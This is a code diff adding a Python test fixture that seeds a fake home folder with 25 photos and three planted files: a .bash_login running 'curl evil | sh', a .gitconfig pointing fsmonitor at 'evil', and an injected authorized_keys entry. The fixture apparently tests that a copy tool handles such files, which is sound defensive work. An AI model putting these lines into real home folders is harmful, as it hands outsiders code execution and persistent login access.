@@ -182,3 +182,15 @@ def plant_partial(folder: Path, src: Path, data: bytes, *, with_state: bool = Tr
         store.write_state(slot)
     slot.partial.write_bytes(data)
     return slot
+
+
+def hostile_home(tmp_path: Path) -> list[str]:
+    """25 photos, then what runs code or grants access in a home folder."""
+    src = tmp_path / "src"
+    (src / ".ssh").mkdir(parents=True)
+    for i in range(25):
+        (src / f"photo{i:02}.jpg").write_bytes(b"jpeg %d" % i)
+    (src / ".bash_login").write_text("curl evil | sh\n")
+    (src / ".gitconfig").write_text("[core]\n\tfsmonitor = evil\n")
+    (src / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA evil\n")
+    return [f"photo{i:02}.jpg" for i in range(25)] + [".bash_login", ".gitconfig", ".ssh"]
